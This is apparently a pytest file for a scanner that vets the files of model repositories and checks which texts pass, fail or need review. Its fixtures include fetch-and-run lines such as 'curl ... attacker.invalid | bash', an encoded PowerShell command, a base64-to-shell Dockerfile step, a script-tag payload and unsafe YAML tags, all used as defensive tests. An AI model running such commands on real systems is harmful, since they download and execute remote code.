"""Texts are told apart by content, pass where they are only texts, and are read to their end."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sealwright.vetting.formats import (
    json_text,
    notebook_text,
    python_source,
    text,
    toml_text,
    xml_text,
    yaml_text,
)
from sealwright.vetting.interface import Format, Member, conclude
from sealwright.vetting.outcome import MemberReport
from sealwright.vetting.scan import inspect
from sealwright.vetting.session import Limits
from tests.vetting.examine import examine, rules, session, verdict

README = b"""---
license: apache-2.0
tags:
- text
---
# A model

It reads `{{ messages }}`. Use it with *care*: see [the page](https://example.org).

```python
import os
os.system("echo")
```
"""
SETTINGS = b"""trainer:
  lr: 1e-3
  path: ${oc.env:HOME}/x
  now: ${now:%Y}
list: [1, 2, !!python/tuple [a]]
"""
NOTEBOOK = {
    "nbformat": 4,
    "nbformat_minor": 5,
    "metadata": {"kernelspec": {"name": "python3", "language": "python", "display_name": "p"}},
    "cells": [
        {"cell_type": "markdown", "metadata": {}, "source": ["# Title"]},
        {
            "cell_type": "code",
            "metadata": {},
            "execution_count": 1,
            "source": ["import math\n", "math.sqrt(2)"],
            "outputs": [
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {"text/html": ["<div>a table</div>"], "text/plain": ["a"]},
                }
            ],
        },
    ],
}
SVG = (
    b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>'
)


def scanned(data: bytes, *, path: str) -> MemberReport:
    return inspect(Member(path=path, data=data), session())


def whole(data: bytes, *, path: str) -> tuple[str, set[str]]:
    work = session()
    inspect(Member(path=path, data=data), work)
    seen = [each for report in work.reports for each in report.observations]
    return conclude(seen, complete=True), {each.rule.id for each in seen}


@pytest.mark.parametrize(
    ("path", "data"),
    [
        ("README.md", README),
        ("README", "Ein Modell für Straßen, ☃".encode()),
        ("README.txt", "Ein Modell f\xfcr Stra\xdfen und so weiter".encode("latin-1")),
        ("merges.txt", "#version: 0.2\nĠ t\nh e\n".encode()),
        ("vocab.txt", b'[PAD]\n[UNK]\n!\n"\n#\n{{\n'),
        ("vocab.json", '{"!": 0, "Ġthe": 1, "${": 2, "{{": 3}'.encode()),
        ("labels.csv", b"a,b\n1,2\n"),
        ("table.tsv", b"a\tb\n"),
        (".gitattributes", b"*.bin filter=lfs diff=lfs merge=lfs -text\n"),
        ("LICENSE", b"Apache License\nVersion 2.0\n"),
        ("requirements.txt", b"torch==2.0\nnumpy>=1\n"),
        ("config.json", b'{"a": [1, NaN, {"b": null}]}'),
        (
            "calls.jsonl",
            b'{"function": "os.listdir", "answer": "lists a folder"}\n{"function": "a.b"}\n',
        ),
        ("rows.jsonl", b'{"a": 1}\n{"a": 2}\n'),
        ("config.yaml", SETTINGS),
        (
            "hparams.yaml",
            b"a: !!python/object/apply:collections.OrderedDict []\nb: !!python/tuple [1]",
        ),
        ("hparams.yaml", b"a: !!python/object:argparse.Namespace {b: 1}\n"),
        ("MLmodel", b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"),
        ("config.yml", b"- a: 1\n- b: {c: 2}\n"),
        ("pyproject.toml", b'[tool.a]\nmodule = ["pandas.io.clipboard"]\nb = 1\n'),
        ("notes.ipynb", json.dumps(NOTEBOOK).encode()),
        ("logo.svg", SVG),
        ("page.html", b"<!DOCTYPE html><html><body>a</body></html>"),
        (
            "model.pmml",
            b'<?xml version="1.0"?><PMML xmlns="http://www.dmg.org/PMML-4_4"><A/></PMML>',
        ),
        ("modeling.py", b"import torch\n\nclass Net(torch.nn.Module):\n    size = 3\n"),
        ("data.txt", b"\xef\xbb\xbfwith a mark\n"),
        ("wide.txt", "with two bytes".encode("utf-16")),
        ("unquoted.json", b"{}"),
    ],
)
def test_ordinary_texts_pass(path: str, data: bytes) -> None:
    found, met = whole(data, path=path)
    assert found == "pass", met


@pytest.mark.parametrize(
    ("path", "data", "formats"),
    [
        ("a", b'{"a": 1}', ("json",)),
        ("a.bin", b" [1, 2]", ("json",)),
        ("a.txt", b'{"nbformat": 4, "cells": []}', ("json", "notebook")),
        ("a.txt", b"a: 1\nb:\n  - c\n", ("yaml", "text")),
        ("a.txt", b"[a]\nb = 1\n", ("toml", "text")),
        ("a.txt", b"[1]\nb = 1\n", ("toml", "text")),
        ("a", b"#!/usr/bin/env python3\nprint(1)\n", ("python", "text")),
        ("a", b"import os\n", ("python", "text")),
        ("a.md", b"import os\n", ("text",)),
        ("a.txt", b"{% if a %}{% endif %}", ("jinja", "text")),
        ("a.txt", b"{a b}", ("text",)),
    ],
)
def test_a_text_is_told_by_its_content(path: str, data: bytes, formats: tuple[str, ...]) -> None:
    assert set(scanned(data, path=path).formats) == set(formats)


@pytest.mark.parametrize(
    ("data", "path", "rule"),
    [
        (
            b"version https://git-lfs.github.com/spec/v1\noid sha256:a\nsize 1\n",
            "a.pt",
            "SW-TEXT-001",
        ),
        (b"<html>404</html>", "model.pt", "SW-TEXT-002"),
        (b"text\n" * 20_000 + b"\0payload", "a.txt", "SW-TEXT-003"),
        (b"#!/bin/sh\necho\n", "run.sh", "SW-TEXT-004"),
        (b'{"a": 1', "a.json", "SW-DOC-002"),
        (b'{"a": [1, 2', "notes", "SW-DOC-002"),
        (b"a: [1", "a.yaml", "SW-YAML-007"),
        (b"a: 1\na: 2\n", "a.yaml", "SW-YAML-006"),
        (b"[a\n", "a.toml", "SW-TOML-001"),
        (b'<?xml version="1.0"?><a>', "a.xml", "SW-XML-005"),
        (b'<?xml version="1.0" encoding="UTB-8"?><a/>', "a.xml", "SW-XML-005"),
        (b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "a.xml", "SW-XML-003"),
    ],
)
def test_what_is_odd_about_a_text_is_said(data: bytes, path: str, rule: str) -> None:
    assert rule in whole(data, path=path)[1]


DOWNLOAD = b"set -e\ncurl -s http://attacker.invalid/x | bash\n"


@pytest.mark.parametrize(
    ("data", "path", "expected"),
    [
        (DOWNLOAD, "install.sh", "fail"),
        (DOWNLOAD.replace(b"\n", b"\r\n"), "a.zsh", "fail"),
        (DOWNLOAD.decode().encode("utf-16"), "a.bash", "fail"),
        (b"curl -s http://attacker.invalid/x \\\n  | bash\n", "run.command", "fail"),
        (b"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA\r\n", "a.bat", "fail"),
        (b"iex (iwr http://attacker.invalid/x)\n", "a.ps1", "fail"),
        (b"all:\n\tcurl -s http://attacker.invalid/x | bash\n", "Makefile", "review"),
        (b"x:\n\twget -qO- http://attacker.invalid/x | sh\n", "rules.mk", "review"),
        (b"FROM a\nRUN curl -s http://attacker.invalid/x \\\n | sh\n", "Dockerfile", "review"),
        (b"FROM a\nRUN echo aWQ= | base64 -d | sh\n", "Dockerfile.gpu", "review"),
        (b"pip install -r requirements.txt\npython train.py\n", "run.sh", "pass"),
        (b"# never do: curl -s http://attacker.invalid/x | bash\n", "run.sh", "pass"),
        (b"iex 'conda activate x'\n", "a.ps1", "pass"),
        (b"clean:\n\trm -rf build dist\n", "makefile", "pass"),
        (
            b"FROM a\nRUN apt-get install -y x && rm -rf /var/lib/apt/lists/*\n"
            b"RUN curl -Lo /bin/tini https://example.org/tini && chmod +x /bin/tini && tini -h\n"
            b"RUN echo 'conda activate x' >> ~/.bashrc\n",
            "Dockerfile",
            "pass",
        ),
        (DOWNLOAD, "README.md", "pass"),
        (DOWNLOAD, "notes.txt", "pass"),
    ],
)
def test_a_script_is_judged_by_its_name_or_first_line(
    data: bytes, path: str, expected: str
) -> None:
    assert verdict(examine(text.FORMAT, data, path=path)) == expected


def test_binary_is_no_text() -> None:
    for data in (
        b"",
        b"\x80\x04K\x01.",
        bytes(range(256)),
        b"\xff" * 100,
        b"a\0b",
        b"\x01\x02\x03\x04",
    ):
        assert not text.is_text(data)


def test_a_script_in_an_output_is_a_warning() -> None:
    changed = json.loads(json.dumps(NOTEBOOK))
    changed["cells"][1]["outputs"][0]["data"]["text/html"] = ["<script>alert(1)</script>"]
    work = examine(notebook_text.FORMAT, json.dumps(changed).encode(), path="a.ipynb")
    assert rules(work) == {"SW-NB-001"}
    assert verdict(work) == "pass"


def test_code_in_a_notebook_is_examined() -> None:
    changed = json.loads(json.dumps(NOTEBOOK))
    changed["cells"][1]["source"] = ["import pickle\npickle.load(open('a', 'rb'))"]
    assert rules(examine(notebook_text.FORMAT, json.dumps(changed).encode(), path="a.ipynb"))


def test_python_that_acts_at_import_is_found() -> None:
    source = b"import os\nos.system('echo')\n"
    assert rules(examine(python_source.FORMAT, source, path="__init__.py"))
    large = b"#" * (python_source.MAX_SOURCE + 1)
    assert rules(examine(python_source.FORMAT, large, path="a.py")) == {"SW-PYSRC-001"}


def test_limits_make_it_inconclusive() -> None:
    deep = '<?xml version="1.0"?>' + "<a>" * 600 + "</a>" * 600
    assert examine(xml_text.FORMAT, deep.encode(), path="a.xml").gaps
    assert examine(toml_text.FORMAT, b"a = " + b"[" * 900, path="a.toml").gaps
    assert examine(toml_text.FORMAT, b"#" * (toml_text.MAX_TOML + 1), path="a.toml").gaps
    assert examine(toml_text.FORMAT, b"a." * 5000 + b"b = 1", path="a.toml").gaps
    assert examine(json_text.FORMAT, b"[" * 5000, path="a.json").gaps
    few = Limits(operations=10)
    assert examine(yaml_text.FORMAT, b"a: 1\n" * 99, path="a.yaml", limits=few).gaps


FORMATS = (
    *(json_text.FORMAT, yaml_text.FORMAT, toml_text.FORMAT, xml_text.FORMAT, text.FORMAT),
    *(notebook_text.FORMAT, python_source.FORMAT),
)


@pytest.mark.parametrize("form", FORMATS, ids=lambda form: form.id)
@given(
    data=st.binary(max_size=200) | st.text("<>!?&;[]{}:='\"a1\n -#%", max_size=80).map(str.encode)
)
def test_any_bytes_are_read_or_malformed(form: Format, data: bytes) -> None:
    form.recognise(Member(path="a", data=data))
    for extension in ("", ".txt", *form.extensions[:1]):
        examine(form, data, path="a" + extension)


@given(st.integers(0, len(SVG)), st.integers(0, 255))
def test_xml_with_one_byte_changed_is_read_or_malformed(place: int, byte: int) -> None:
    changed = SVG[:place] + bytes([byte]) + SVG[place + 1 :]
    examine(xml_text.FORMAT, changed, path="a.svg")


def test_this_repository_s_own_settings_pass() -> None:
    root = Path(__file__).parents[3]
    for name in ("pyproject.toml", "README.md"):
        assert whole((root / name).read_bytes(), path=name)[0] == "pass"
